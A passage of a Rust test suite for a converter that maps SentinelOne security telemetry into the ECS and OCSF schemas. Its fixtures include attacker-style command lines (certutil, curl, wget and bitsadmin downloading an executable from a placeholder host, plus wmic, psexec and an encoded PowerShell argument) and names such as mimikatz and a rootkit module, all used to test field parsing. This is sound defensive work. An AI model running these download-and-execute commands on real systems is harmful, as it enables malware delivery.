    let [ecs, ocsf] = agent("", json!({}));
    assert_fields(&ecs, &[("user.name", json!("root"))]);
    assert_fields(&ocsf, &[("device.owner.name", json!("root"))]);
}

#[test]
fn a_library_is_no_process_on_any_system() {
    for (system, path, extension) in [
        ("linux", "/usr/lib/evil.so", "SO"),
        ("linux", "/usr/lib/libx.so.1", ""),
        ("linux", "/lib/modules/rootkit.ko", "KO"),
        ("macos", "/Users/jane/evil.dylib", "DYLIB"),
    ] {
        let info = json!({"threatName": "evil", "filePath": path, "fileExtension": extension,
            "fileExtensionType": "Executable", "detectionType": "dynamic", "originatorProcess": "nginx",
            "maliciousProcessArguments": "nginx: worker process", "processUser": "root"});
        let record = threat(info, json!({"agentRealtimeInfo": {"agentOsType": system}}));
        let event = map_to(Schema::Ecs, Stream::Threats, &record);
        assert_fields(&event, &[("file.path", json!(path)), ("process", json!({"parent": {"name": "nginx"}}))]);
        let event = map_to(Schema::Ocsf, Stream::Threats, &record);
        assert_fields(&event["evidences"][0], &[("data.process", Value::Null), ("file.path", json!(path))]);
    }
}

#[test]
fn a_role_is_one_of_an_administrator_whatever_its_length() {
    for (role, expected, severity) in [
        ("Endpoint Detection and Response Tier 2 Site Admin for EMEA", "Admin", 47),
        ("Tier1/Admin", "Admin", 47),
        ("\u{c9}quipe Admin", "Admin", 47),
        ("Endpoint Detection and Response Tier 2 Non-Admin for EMEA", "User", 21),
        ("Endpoint Detection and Response Tier 2 Administration", "User", 21),
    ] {
        let [ecs, ocsf] = of_activity(23, json!({}), json!({"byUser": "boss", "username": "new", "role": role}));
        assert_fields(&ecs, &[("event.severity", json!(severity))]);
        assert_fields(&ocsf, &[("user.type", json!(expected))]);
    }
}

/// No word of a table is as long, or has characters beyond ASCII.
#[test]
fn the_state_of_an_incident_may_be_a_long_word() {
    for word in ["Waiting for an answer of the operations team in Barcelona", "Ge\u{f6}ffnet"] {
        for (stream, record) in [
            (Stream::Threats, threat(json!({"incidentStatus": word}), json!({}))),
            (Stream::Alerts, json!({"alertInfo": {"alertId": "1", "incidentStatus": word}})),
            (Stream::UnifiedAlerts, json!({"id": "1", "status": word})),
        ] {
            let event = map_to(Schema::Ocsf, stream, &record);
            assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
            assert_fields(&event, &[("status_id", json!(99)), ("status", json!(word))]);
        }
    }
}

#[test]
fn a_node_of_kubernetes_is_a_server_whichever_word_says_so() {
    for asset in [
        json!({"name": "node-1", "subcategory": "Virtual Machine", "assetTypeClassifier": "Kubernetes Node"}),
        json!({"name": "node-1", "subcategory": "Kubernetes Node", "category": "Virtual Machine"}),
        json!({"name": "node-1", "category": "Server", "subcategory": "Virtual Machine", "type": "Kubernetes Node"}),
    ] {
        let [ecs, ocsf] = with_assets(json!([asset]), json!({}));
        assert_fields(&ecs, &[("host.type", json!("kubernetes node"))]);
        assert_fields(&ocsf, &[("device.type", json!("Server"))]);
    }
}

#[test]
fn a_unified_alert_says_whether_its_file_is_signed() {
    let alert = |word: &str, file: Value| {
        let mut record = json!({"id": "1", "process": {"file": file}});
        record["process"]["file"]["signatureVerification"] = json!(word);
        let [ecs, ocsf] = [Schema::Ecs, Schema::Ocsf].map(|schema| {
            let event = map_to(schema, Stream::UnifiedAlerts, &record);
            assert_eq!(faults(schema, &event), Vec::<String>::new(), "{event:#}");
            event
        });
        let state = ocsf.pointer("/evidences/0/file/signatures/0/state").cloned().unwrap_or_default();
        (at(&ecs, "file.code_signature").clone(), state)
    };
    let named = json!({"name": "a.exe", "path": "C:\\x\\a.exe"});
    let signed = json!({"name": "a.exe", "certSubject": "ACME"});
    let none = Value::Null;
    assert_eq!(alert("Not Signed", named.clone()), (json!({"exists": false}), none.clone()));
    assert_eq!(alert("NotSigned", named.clone()), (json!({"exists": false}), none.clone()));
    assert_eq!(alert("Signed", named), (json!({"exists": true}), json!("Unknown")));
    let by_acme = json!({"exists": true, "subject_name": "ACME"});
    assert_eq!(alert("SignedVerified", signed.clone()), (by_acme, json!("Unknown")));
    assert_eq!(alert("of an unknown kind", signed), (json!({"subject_name": "ACME"}), none.clone()));
    // What is no file has no signature.
    assert_eq!(alert("Not Signed", json!({})), (none.clone(), none.clone()));
    assert_eq!(alert("Not Signed", json!({"name": "cmd.exe (interactive session)"})), (none.clone(), none));
}

/// Detections are made by agents, and notes by users.
#[test]
fn what_a_user_does_about_a_threat_is_no_detection() {
    let of_threat = |fields: Value, more: Value| {
        let mut data = json!({"confidenceLevel": "malicious"});
        data.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        let mut record = activity(99_999, json!({"threatId": "9"}), data);
        record.as_object_mut().unwrap().extend(fields.as_object().unwrap().clone());
        record
    };
    let of_rule = activity(99_999, json!({}), json!({"alertid": "9", "rulename": "r", "noteText": "hi"}));
    for record in [
        of_threat(json!({"userId": "5"}), json!({})),
        of_threat(json!({}), json!({"username": "jane"})),
        of_threat(json!({}), json!({"byUser": "jane", "action": "kill"})),
        of_threat(json!({}), json!({"noteText": "hi"})),
        of_threat(json!({}), json!({"newTicketId": "T-1"})),
        of_rule,
    ] {
        let event = map_to(Schema::Ecs, Stream::Activities, &record);
        assert_fields(&event, &[("event.kind", json!("event"))]);
        let event = map_to(Schema::Ocsf, Stream::Activities, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(
            &event,
            &[
                ("activity_name", json!("Update")),
                ("finding_info.uid", json!("9")),
                ("status", Value::Null),
                ("is_alert", Value::Null),
                ("disposition", Value::Null),
            ],
        );
    }
    let event = map_to(Schema::Ocsf, Stream::Activities, &of_threat(json!({}), json!({"username": ""})));
    assert_fields(&event, &[("activity_name", json!("Create")), ("is_alert", json!(true))]);
}

/// The console has the name of who logged in, and the id and the domain of who asked for it: of Windows itself at the
/// keyboard.
#[test]
fn an_id_of_another_account_is_none_of_who_logged_in() {
    let domain = "S-1-5-21-3622100493-2250088526-2058887289";
    let of_domain = |number: &str| format!("{domain}-{number}");
    let [jane, administrator, guest] = ["1000", "500", "501"].map(of_domain);
    for (name, sid, is_one) in [
        ("Crest", "S-1-5-18", false),
        ("DWM-5", "S-1-5-18", false),
        ("jane@acme.example", "S-1-5-19", false),
        ("jane", "s-1-5-20", false),
        ("jane", "S-1-5-7", false),
        ("Guest", jane.as_str(), false),
        ("Gast", &jane, false),
        ("Invité", &administrator, false),
        ("Administrator", &jane, false),
        ("DefaultAccount", &administrator, false),
        ("SYSTEM", &jane, false),
        ("NETWORK SERVICE", "S-1-5-18", false),
        ("SYSTEM", "S-1-5-18", true),
        ("Système", "S-1-5-18", true),
        ("NT AUTHORITY\\SYSTEM", "S-1-5-18", true),
        // The account of the machine.
        ("WS-7$", "S-1-5-18", true),
        ("WS-7$", "S-1-5-20", true),
        ("LOKALER DIENST", "S-1-5-19", true),
        ("SERVICE RÉSEAU", "S-1-5-20", true),
        ("ANONYMOUS LOGON", "S-1-5-7", true),
        ("DWM-5", "S-1-5-90-0-5", true),
        ("Crest", &jane, true),
        ("Guest", &guest, true),
        ("Administrateur", &administrator, true),
        // It may be renamed.
        ("boss", &administrator, true),
    ] {
        let login = json!({"alertId": "1", "eventType": "WINLOGONATTEMPT", "loginsUserName": name,
            "loginAccountSid": sid, "loginAccountDomain": "CLO007"});
        let hit = json!({"alertid": "1", "rulename": "r", "loginsusername": name, "loginaccountsid": sid,
            "loginaccountdomain": "CLO007"});
        for (stream, record, rest) in [
            (Stream::Alerts, json!({"alertInfo": login}), "alertInfo"),
            (Stream::Activities, activity(3608, json!({}), hit), "data"),
        ] {
            let [id, of_login] = if is_one { [json!(sid), json!("CLO007")] } else { [Value::Null, Value::Null] };
            let event = map_to(Schema::Ecs, stream, &record);
            assert_eq!(at(&event, "user.id"), &id, "{name} {sid}: {event:#}");
            if is_one || !name.contains(['@', '\\']) {
                assert_eq!(at(&event, "user.domain"), &of_login, "{name} {sid}: {event:#}");
            }
            let event = map_to(Schema::Ocsf, stream, &record);
            assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
            let users: Vec<_> =
                event["evidences"].as_array().unwrap().iter().filter_map(|evidence| evidence.get("user")).collect();
            assert_eq!(users.len(), 1, "{event:#}");
            assert_eq!(users[0].get("uid"), Some(&id).filter(|id| !id.is_null()), "{name} {sid}: {event:#}");
            // Nothing is lost.
            let rest = event["unmapped"][rest].to_string();
            assert_eq!(rest.contains(sid) && rest.contains("CLO007"), !is_one, "{name} {sid}: {event:#}");
        }
    }
}

/// A byte that is repeated is no address of a maker: Azure's network for pods gives one to each interface on a host.
#[test]
fn an_interface_of_pods_of_a_cloud_represents_no_device() {
    let one = |name: &str, mac: &str, inet: Value| {
        json!({"name": name, "physical": mac, "inet": inet,
        "inet6": ["fe80::a8aa:aaff:feaa:aaaa"]})
    };
    let real = "00:0d:3a:11:22:33";
    for (name, mac) in [
        ("azv1234567", "aa:aa:aa:aa:aa:aa"),
        ("azv1234567", "aa:bb:cc:00:00:01"),
        ("Ethernet 9", "AA-AA-AA-AA-AA-AA"),
        ("x", "cc:cc:cc:cc:cc:cc"),
        ("eni7e1f0a9b2c3", "de:ad:be:00:00:01"),
        ("gke52af12b3c4d", "de:ad:be:00:00:01"),
        ("qbr1234abcd-12", "de:ad:be:00:00:01"),
        ("fwbr100i0", "de:ad:be:00:00:01"),
    ] {
        for named in ["203.0.113.9", "10.224.0.4"] {
            let interfaces = json!([one(name, mac, json!([])), one("eth0", real, json!(["10.224.0.4"]))]);
            let agent = json!({"id": "9", "updatedAt": "2026-01-01T00:00:00Z", "osType": "linux",
                "lastIpToMgmt": named, "networkInterfaces": interfaces});
            let event = map_to(Schema::Ocsf, Stream::Agents, &agent);
            assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
            assert_fields(&event["device"], &[("ip", json!(named)), ("mac", json!(real))]);
            let is_shared = mac.ends_with("aa") || mac.ends_with("AA") || mac.ends_with("cc");
            assert_eq!(observed(&event).iter().any(|(_, value)| value == mac), !is_shared, "{event:#}");
            let event = map_to(Schema::Ecs, Stream::Agents, &agent);
            let macs = event["host"]["mac"].as_array().unwrap().len();
            assert_eq!(macs, if is_shared { 1 } else { 2 }, "{event:#}");
        }
    }
}

#[test]
fn an_expired_signature_is_one() {
    for (word, valid, state) in [
        ("Expired", json!(false), "Expired"),
        ("SignedExpired", json!(false), "Expired"),
        ("Expired", Value::Null, "Expired"),
        ("Revoked", json!(false), "Revoked"),
        ("Certificate Revoked", json!(false), "Revoked"),
        ("SignedUntrusted", Value::Null, "Untrusted"),
        ("SignedVerified", json!(true), "Valid"),
        ("SignedVerified", json!(false), "Untrusted"),
        ("SignedVerified", Value::Null, "Unknown"),
    ] {
        let info = json!({"filePath": "C:\\m\\mimikatz.exe", "fileVerificationType": word, "isValidCertificate": valid,
            "publisherName": "JANE DOE"});
        let record = threat(info, json!({}));
        let event = map_to(Schema::Ecs, Stream::Threats, &record);
        assert_fields(
            &event["file"]["code_signature"],
            &[("exists", json!(true)), ("valid", valid), ("subject_name", json!("JANE DOE"))],
        );
        let event = map_to(Schema::Ocsf, Stream::Threats, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_eq!(event.pointer("/evidences/0/file/signatures/0/state"), Some(&json!(state)), "{word}: {event:#}");
    }
    let file = json!({"name": "a.exe", "path": "C:\\x\\a.exe", "signatureVerification": "EXPIRED"});
    let record = json!({"id": "1", "process": {"file": file}});
    let event = map_to(Schema::Ecs, Stream::UnifiedAlerts, &record);
    assert_fields(&event, &[("file.code_signature", json!({"exists": true}))]);
    let event = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &record);
    assert_eq!(event.pointer("/evidences/0/file/signatures/0/state"), Some(&json!("Expired")), "{event:#}");
}

/// The directory of a bundle is the beginning of the path of its program.
#[test]
fn the_program_of_a_bundle_is_the_process_and_the_bundle_the_file() {
    let check = |stream, record: &Value, bundle: &str, program: Option<&str>, text: &str| {
        let event = map_to(Schema::Ecs, stream, record);
        assert_fields(&event, &[("file.path", json!(bundle)), ("process.executable", json!(program))]);
        let event = map_to(Schema::Ocsf, stream, record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        let evidence = &event["evidences"][0];
        assert_eq!(
            evidence["data"].get("process"),
            program.map(|program| json!(program)).as_ref(),
            "{text}: {event:#}"
        );
        let kind = if stream == Stream::Activities { "Unknown" } else { "Regular File" };
        assert_eq!(evidence["file"]["type"], kind, "{text}: {event:#}");
    };
    for (bundle, line, program) in [
        ("/Applications/Evil.app", "P -x", "/Applications/Evil.app/Contents/MacOS/Evil"),
        ("/Applications/Evil.app", "\"P\" -x", "/Applications/Evil.app/Contents/MacOS/Evil"),
        ("/Applications/Evil.app", "P", "/Applications/Evil.app/Contents/MacOS/other"),
        ("/Applications/My Evil.app", "P -x", "/Applications/My Evil.app/Contents/MacOS/My Evil"),
        ("/Applications/My Evil.app", "\"P\" -x", "/Applications/My Evil.app/Contents/MacOS/My Evil"),
        ("/tmp/EVIL.APP", "P -x", "/tmp/EVIL.APP/Contents/MacOS/evil"),
        ("/Library/X/Evil.xpc", "P -x", "/Library/X/Evil.xpc/Contents/MacOS/Evil"),
        ("/Library/X/Evil.appex", "P", "/Library/X/Evil.appex/Contents/MacOS/Evil"),
        ("/Library/X/Evil.framework", "P -x", "/Library/X/Evil.framework/Versions/A/Evil"),
        ("/Library/X/Evil.bundle", "P -x", "/Library/X/Evil.bundle/Contents/MacOS/Evil"),
    ] {
        let line = line.replace('P', program);
        for extension_type in ["Unknown", "Executable"] {
            let info = json!({"filePath": bundle, "detectionType": "dynamic", "originatorProcess": "launchd",
                "maliciousProcessArguments": line, "fileExtensionType": extension_type});
            let record = threat(info, json!({"agentRealtimeInfo": {"agentOsType": "macos"}}));
            check(Stream::Threats, &record, bundle, Some(program), &line);
        }
        let data = json!({"filePath": bundle, "escapedMaliciousProcessArguments": line});
        let record = activity(4003, json!({"threatId": "9", "osFamily": "macos"}), data);
        check(Stream::Activities, &record, bundle, Some(program), &line);
        let name = bundle.rsplit('/').next().unwrap();
        let record = json!({"id": "1", "analytics": {"typeValue": "DYNAMIC"},
            "process": {"cmdLine": line, "file": {"name": name, "path": bundle}}});
        check(Stream::UnifiedAlerts, &record, bundle, Some(program), &line);
    }
    // Nobody knows the program.
    for (bundle, line) in [
        ("/Applications/Evil.app", ""),
        ("/Applications/Evil.APPEX", ""),
        ("/Applications/Evil.app", "-x 1"),
        ("/Applications/Evil.app", "/Applications/Evil.app"),
        ("/Applications/My Evil.app", "\"/Applications/My Evil.app\" -x"),
    ] {
        let info = json!({"filePath": bundle, "detectionType": "dynamic", "originatorProcess": "launchd",
            "maliciousProcessArguments": line, "fileExtensionType": "Executable"});
        let record = threat(info, json!({"agentRealtimeInfo": {"agentOsType": "macos"}}));
        check(Stream::Threats, &record, bundle, None, line);
        let name = bundle.rsplit('/').next().unwrap();
        let record = json!({"id": "1", "analytics": {"typeValue": "DYNAMIC"},
            "process": {"cmdLine": line, "file": {"name": name, "path": bundle}}});
        check(Stream::UnifiedAlerts, &record, bundle, None, line);
    }
    // Installers of Linux have such names and are programs.
    let info = json!({"filePath": "/home/jane/VMware.bundle", "detectionType": "dynamic",
        "maliciousProcessArguments": "/home/jane/VMware.bundle --console"});
    let record = threat(info, json!({"agentRealtimeInfo": {"agentOsType": "linux"}}));
    let event = map_to(Schema::Ecs, Stream::Threats, &record);
    assert_fields(&event, &[("process.executable", json!("/home/jane/VMware.bundle"))]);
    let process = json!({"cmdLine": "/home/jane/VMware.bundle --console",
        "file": {"name": "VMware.bundle", "path": "/home/jane/VMware.bundle"}});
    let record = json!({"id": "1", "assets": [{"name": "h", "osType": "LINUX"}], "process": process});
    let event = map_to(Schema::Ecs, Stream::UnifiedAlerts, &record);
    assert_fields(&event, &[("process.executable", json!("/home/jane/VMware.bundle"))]);
}

/// It may lack `.exe`.
#[test]
fn a_program_that_fetches_a_file_is_the_process() {
    for (program, rest) in [
        ("certutil", "-urlcache -f http://x/a.exe F"),
        ("certutil.exe", "-urlcache -f http://x/a.exe F"),
        ("curl", "-o F http://x/a.exe"),
        ("bitsadmin", "/transfer j http://x/a.exe F"),
        ("wget", "-O F http://x/a.exe"),
        ("xcopy", "D:\\a.exe F"),
        ("esentutl", "/y D:\\a.exe /d F"),
        ("tar", "-xf F"),
        ("psexec64", "\\\\ws F"),
        ("attrib", "+h F"),
        ("pcalua", "-a F"),
        ("wmic", "process call create F"),
    ] {
        let line = format!("{program} {}", rest.replace('F', "C:\\Users\\jane\\a.exe"));
        let info = json!({"filePath": "\\Device\\HarddiskVolume3\\Users\\jane\\a.exe", "detectionType": "dynamic",
            "fileExtensionType": "Executable", "originatorProcess": "cmd.exe", "maliciousProcessArguments": line});
        let record = threat(info, json!({"agentRealtimeInfo": {"agentOsType": "windows"}}));
        let event = map_to(Schema::Ecs, Stream::Threats, &record);
        let process = json!({"name": program, "command_line": line, "parent": {"name": "cmd.exe"}});
        assert_fields(&event, &[("process", process), ("file.name", json!("a.exe"))]);
        let event = map_to(Schema::Ocsf, Stream::Threats, &record);
        assert_eq!(event.pointer("/evidences/0/data/process"), Some(&json!(program)), "{event:#}");
    }
}

/// The console has words in the place of a severity, too.
#[test]
fn a_word_in_the_place_of_the_severity_that_an_alert_was_given_is_an_unknown_one() {
    for word in ["UNKNOWN", "N/A", "none", "-", "Not available", "UNDEFINED"] {
        for [ecs, ocsf] in
            forms_of_alert("new_severity", json!(word)).into_iter().map(|data| of_activity(16003, json!({}), data))
        {
            assert_fields(&ecs, &[("event.severity", Value::Null)]);
            assert_fields(&ocsf, &[("severity", json!("Unknown"))]);
        }
        let [ecs, ocsf] = of_activity(16003, json!({}), json!({"newSeverity": word}));
        assert_fields(&ecs, &[("event.severity", Value::Null)]);
        assert_fields(&ocsf, &[("severity", json!("Unknown"))]);
    }
    // What is empty is no word, and another form may have one.
    for (data, score) in [
        (json!({"alertId": "9", "newSeverity": ""}), 21),
        (json!({"alertId": "9", "newSeverity": null}), 21),
        (json!({"alertId": "9", "newSeverity": "N/A", "payload": {"newSeverity": "HIGH"}}), 73),
    ] {
        assert_fields(&of_activity(16003, json!({}), data)[0], &[("event.severity", json!(score))]);
    }
}

/// Interfaces between the machines of one maker, which have MAC addresses and no address of a network.
#[test]
fn an_interface_without_an_address_lends_no_device_its_mac() {
    let one =
        |name: &str, mac: &str, ip: Value| json!({"name": name, "physical": mac, "inet": ip, "inet6": ["fe80::1"]});
    let real = "a4:83:e7:11:22:33";
    for name in ["llw0", "awdl0", "ap1", "anpi0", "anpi1", "bridge0", "p2p0", "en5", "Wi-Fi", ""] {
        for named in ["203.0.113.9", "10.8.0.2", "192.168.1.5"] {
            let peer = one(name, "a6:83:e7:11:22:33", json!([]));
            let own = one("en0", real, json!(["192.168.1.5"]));
            for interfaces in [json!([peer, own]), json!([own, peer])] {
                let agent = json!({"id": "9", "updatedAt": "2026-01-01T00:00:00Z", "lastIpToMgmt": named,
                    "networkInterfaces": interfaces});
                let event = map_to(Schema::Ocsf, Stream::Agents, &agent);
                assert_fields(&event["device"], &[("ip", json!(named)), ("mac", json!(real))]);
            }
        }
    }
    // Such an interface is none of a Mac without another one either.
    for (name, mac) in [("llw0", Value::Null), ("awdl0", Value::Null), ("en5", json!("a6:83:e7:11:22:33"))] {
        let agent = json!({"id": "9", "updatedAt": "2026-01-01T00:00:00Z", "lastIpToMgmt": "10.8.0.2",
            "networkInterfaces": [one(name, "a6:83:e7:11:22:33", json!([]))]});
        assert_fields(&map_to(Schema::Ocsf, Stream::Agents, &agent), &[("device.mac", mac)]);
    }
    // Nobody knows which one of two with addresses it is.
    let two = [one("en0", real, json!(["192.168.1.5"])), one("en1", "a4:83:e7:11:22:34", json!(["192.168.1.6"]))];
    let agent = json!({"id": "9", "updatedAt": "2026-01-01T00:00:00Z", "lastIpToMgmt": "203.0.113.9",
        "networkInterfaces": two});
    assert_fields(&map_to(Schema::Ocsf, Stream::Agents, &agent), &[("device.mac", Value::Null)]);
    // A tunnel of OpenShift has a MAC address, and so have those of ZeroTier on a Mac.
    for name in ["tun0", "feth1234"] {
        let agent = json!({"id": "9", "updatedAt": "2026-01-01T00:00:00Z", "networkInterfaces":
            [one(name, "aa:bb:cc:00:00:01", json!(["10.128.0.1"])), one("eth0", real, json!(["192.168.1.5"]))]});
        let event = map_to(Schema::Ocsf, Stream::Agents, &agent);
        assert_fields(&event["device"], &[("ip", json!("192.168.1.5")), ("mac", json!(real))]);
    }
}

/// The users of an endpoint, too.
#[test]
fn a_name_with_an_address_is_both_for_every_user_of_an_endpoint() {
    let [both, name, address] = ["Jane Doe (jane@acme.example)", "Jane Doe", "jane@acme.example"];
    let hit = json!({"alertid": "1", "rulename": "r", "loginsusername": both});
    let hit_of_process =
        json!({"alertid": "1", "rulename": "r", "sourceprocessusername": both, "sourceprocesspid": "12"});
    let unified = |fields: Value| {
        let mut record = json!({"id": "1"});
        record.as_object_mut().unwrap().extend(fields.as_object().unwrap().clone());
        record
    };
    let target = json!({"name": both, "displayName": "J", "emailAddress": "other@acme.example"});
    let linux = format!("Effective: {both}, Real: root, Login: root");
    for (stream, record, path) in [
        (Stream::Threats, threat(json!({"processUser": both}), json!({})), "/actor/user"),
        (Stream::Threats, threat(json!({"processUser": both}), json!({})), "/evidences/0/user"),
        (Stream::Threats, threat(json!({"processUser": linux}), json!({})), "/actor/user"),
        (
            Stream::Threats,
            threat(
                json!({}),
                json!({"agentRealtimeInfo": {"agentId": "3"}, "agentDetectionInfo": {"agentLastLoggedInUserName": both,
                    "agentLastLoggedInUserMail": "other@acme.example"}}),
            ),
            "/device/owner",
        ),
        (
            Stream::Agents,
            json!({"id": "3", "updatedAt": "2026-01-01T00:00:00Z", "lastLoggedInUserName": both,
                "activeDirectory": {"mail": "other@acme.example"}}),
            "/device/owner",
        ),
        (Stream::Alerts, json!({"alertInfo": {"alertId": "1", "loginsUserName": both}}), "/evidences/0/user"),
        (
            Stream::Alerts,
            json!({"alertInfo": {"alertId": "1", "loginsUserName": both, "loginAccountDomain": "-"}}),
            "/evidences/0/user",
        ),
        (
            Stream::Alerts,
            json!({"alertInfo": {"alertId": "1"}, "sourceProcessInfo": {"user": both, "pid": "12"}}),
            "/actor/process/user",
        ),
        (Stream::Activities, activity(3608, json!({}), hit), "/evidences/0/user"),
        (Stream::Activities, activity(3608, json!({}), hit_of_process), "/actor/process/user"),
        (Stream::UnifiedAlerts, unified(json!({"process": {"cmdLine": "a.exe", "username": both}})), "/actor/user"),
        (Stream::UnifiedAlerts, unified(json!({"detectionTime": {"targetUser": target}})), "/evidences/1/user"),
        (
            Stream::UnifiedAlerts,
            unified(json!({"assets": [{"name": both, "category": "Identity"}]})),
            "/evidences/1/user",
        ),
    ] {
        let event = map_to(Schema::Ecs, stream, &record);
        assert_eq!(faults(Schema::Ecs, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event, &[("user", json!({"name": "jane", "full_name": name, "email": address}))]);
        for known in ["jane", name, address] {
            assert!(event["related"]["user"].as_array().unwrap().contains(&json!(known)), "{known}: {event:#}");
        }
        let event = map_to(Schema::Ocsf, stream, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        let path = if path.starts_with("/evidences/1") { "/evidences/0/user" } else { path };
        let user = event.pointer(path).unwrap_or_else(|| panic!("{path}: {event:#}"));
        assert_fields(
            user,
            &[
                ("name", json!("jane")),
                ("full_name", json!(name)),
                ("email_addr", json!(address)),
                ("domain", Value::Null),
            ],
        );
        assert!(observed(&event).contains(&("Email Address".to_owned(), address.to_owned())), "{event:#}");
    }
}

/// As in the place of a blank. The JSON may have it as it is.
#[test]
fn words_of_the_console_may_follow_any_blank() {
    for name in [
        "powershell.exe\u{a0}(CLI fa08)",
        "powershell.exe (CLI\u{a0}fa08)",
        "powershell.exe\u{a0}(interactive session)",
    ] {
        let record = threat(
            json!({"threatName": name, "isFileless": true, "maliciousProcessArguments": "-enc AAAA"}),
            json!({}),
        );
        let event = map_to(Schema::Ecs, Stream::Threats, &record);
        assert_fields(&event, &[("process.name", json!("powershell.exe"))]);
    }
}

#[test]
fn a_machine_of_a_cloud_or_a_directory_is_one_by_its_name_alone() {
    for (word, kind) in [
        ("AWS WorkSpace", "Virtual"),
        ("Amazon Lightsail Instance", "Virtual"),
        ("AWS Fargate Task", "Virtual"),
        ("Windows 365 Cloud PC", "Virtual"),
        ("Azure Virtual Desktop", "Virtual"),
        ("AVD Session Host", "Virtual"),
        ("VMware ESXi Host", "Server"),
        ("PLC", "IOT"),
        ("VoIP Phone", "IOT"),
        ("IP Phone", "IOT"),
        ("Wireless Access Point", "Unknown"),
        ("Entra ID Device", "Unknown"),
        ("Log Analytics Workspace", ""),
        ("S3 Access Point", ""),
    ] {
        let [ecs, ocsf] = with_assets(json!([{"name": "h", "subcategory": word}]), json!({}));
        assert_fields(&ecs, &[("host.name", if kind.is_empty() { Value::Null } else { json!("h") })]);
        assert_eq!(ocsf["device"]["type"].as_str().unwrap_or_default(), kind, "{word}: {ocsf:#}");
    }
}

/// Agents for Linux send one.
#[test]
fn a_command_line_has_no_blank_before_it() {
    let [line, expected] = [" /usr/sbin/sshd -D -R ", "/usr/sbin/sshd -D -R "];
    let process = json!({"commandline": line, "pid": "12", "name": "sshd"});
    let target = json!({"tgtProcCmdLine": line, "tgtProcPid": "13", "tgtProcName": "sshd"});
    let alert = json!({"alertInfo": {"alertId": "1"}, "sourceProcessInfo": process, "targetProcessInfo": target});
    let unified = json!({"id": "1", "process": {"cmdLine": line}});
    for (stream, record, path) in [
        (Stream::Alerts, alert, "/actor/process/cmd_line"),
        (Stream::UnifiedAlerts, unified, "/evidences/0/data/cmd_line"),
        (
            Stream::Threats,
            threat(json!({"maliciousProcessArguments": line, "filePath": "/usr/sbin/sshd"}), json!({})),
            "/evidences/0/data/arguments",
        ),
    ] {
        let event = map_to(Schema::Ecs, stream, &record);
        assert_fields(&event, &[("process.command_line", json!(expected))]);
        // The text as received is in the record's own values.
        assert!(event["sentinel_one"].to_string().contains(line), "{event:#}");
        let event = map_to(Schema::Ocsf, stream, &record);
        assert_eq!(event.pointer(path), Some(&json!(expected)), "{event:#}");
        assert!(event["unmapped"].to_string().contains(line), "{event:#}");
        let lines = observed(&event).into_iter().filter(|(kind, _)| kind == "Command Line");
        assert!(lines.map(|(_, line)| line).all(|line| line == expected), "{event:#}");
    }
}

#[test]
fn what_is_only_named_by_its_hash_is_observed() {
    let hash = "AA".repeat(20);
    for (name, path) in [(Value::Null, "malware[].uid"), (json!("a.exe"), "evidences[].file.hashes[].value")] {
        let data = json!({"threatClassification": "Malware", "fileContentHash": hash, "fileDisplayName": name});
        let [_, event] = of_activity(4003, json!({"threatId": "9"}), data);
        let known = event["observables"].as_array().unwrap().iter().filter(|known| known["type"] == "Hash");
        let found: Vec<_> = known.map(|known| (&known["name"], &known["value"])).collect();
        assert_eq!(found, [(&json!(path), &json!(hash.to_lowercase()))], "{event:#}");
    }
}

/// The table knew `laptop` and `desktop` as whole words only.
#[test]
fn a_machine_of_a_system_is_a_machine() {
    for (word, host, kind) in [
        ("Windows laptop", "windows laptop", "Laptop"),
        ("Mac Laptop", "mac laptop", "Laptop"),
        ("Linux-laptop", "linux-laptop", "Laptop"),
        ("Windows desktop", "windows desktop", "Desktop"),
        ("Chrome OS Workstation", "chrome os workstation", "Desktop"),
        ("Windows Server", "windows server", "Server"),
        ("Android tablet", "android tablet", "Tablet"),
        ("Android Phone", "android phone", "Mobile"),
        ("Smartphone", "smartphone", "Mobile"),
        ("iPhone", "iphone", "Mobile"),
        ("iPad", "ipad", "Tablet"),
        ("Android Mobile Device", "android mobile device", "Mobile"),
        ("Linux Virtual Machine", "linux virtual machine", "Virtual"),
        ("Windows VM", "windows vm", "Virtual"),
        // These are no desktops and no mobiles.
        ("Azure Virtual Desktop", "azure virtual desktop", "Virtual"),
        ("Cloud Workstation", "cloud workstation", "Virtual"),
        ("VoIP Phone", "voip phone", "IOT"),
        ("Conference Phone", "conference phone", "IOT"),
    ] {
        for asset in [json!({"name": "W7", "subcategory": word}), json!({"name": "W7", "assetTypeClassifier": word})] {
            let [ecs, ocsf] = with_assets(json!([asset]), json!({}));
            assert_fields(&ecs, &[("host.name", json!("W7")), ("host.type", json!(host))]);
            assert_fields(&ocsf, &[("device.hostname", json!("W7")), ("device.type", json!(kind))]);
        }
        let agent = json!({"id": "9", "updatedAt": "2026-01-01T00:00:00Z", "machineType": word});
        assert_fields(&map_to(Schema::Ocsf, Stream::Agents, &agent), &[("device.type", json!(kind))]);
    }
    // The word for the machine itself comes before that of its category, as that for a laptop does.
    let asset = |others: Value| {
        let mut asset = json!({"name": "W7", "assetTypeClassifier": "Windows laptop", "category": "Workstation"});
        for (key, value) in others.as_object().unwrap() {
            asset[key] = value.clone();
        }
        with_assets(json!([asset]), json!({}))
    };
    for (others, host) in [(json!({}), "windows laptop"), (json!({"subcategory": "Laptop"}), "laptop")] {
        let [ecs, ocsf] = asset(others);
        assert_fields(&ecs, &[("host.type", json!(host))]);
        assert_fields(&ocsf, &[("device.type_id", json!(3))]);
    }
    // Other words of the classifier say less than the category.
    let [ecs, ocsf] = asset(json!({"assetTypeClassifier": "Windows desktop", "category": "Server"}));
    assert_fields(&ecs, &[("host.type", json!("server"))]);
    assert_fields(&ocsf, &[("device.type", json!("Server"))]);
}

#[test]
fn an_address_of_each_installation_is_no_machines() {
    let own = "3c:ec:ef:11:22:33";
    for (name, shared) in [
        ("enxbe3af2b6059f", "be:3a:f2:b6:05:9f"),
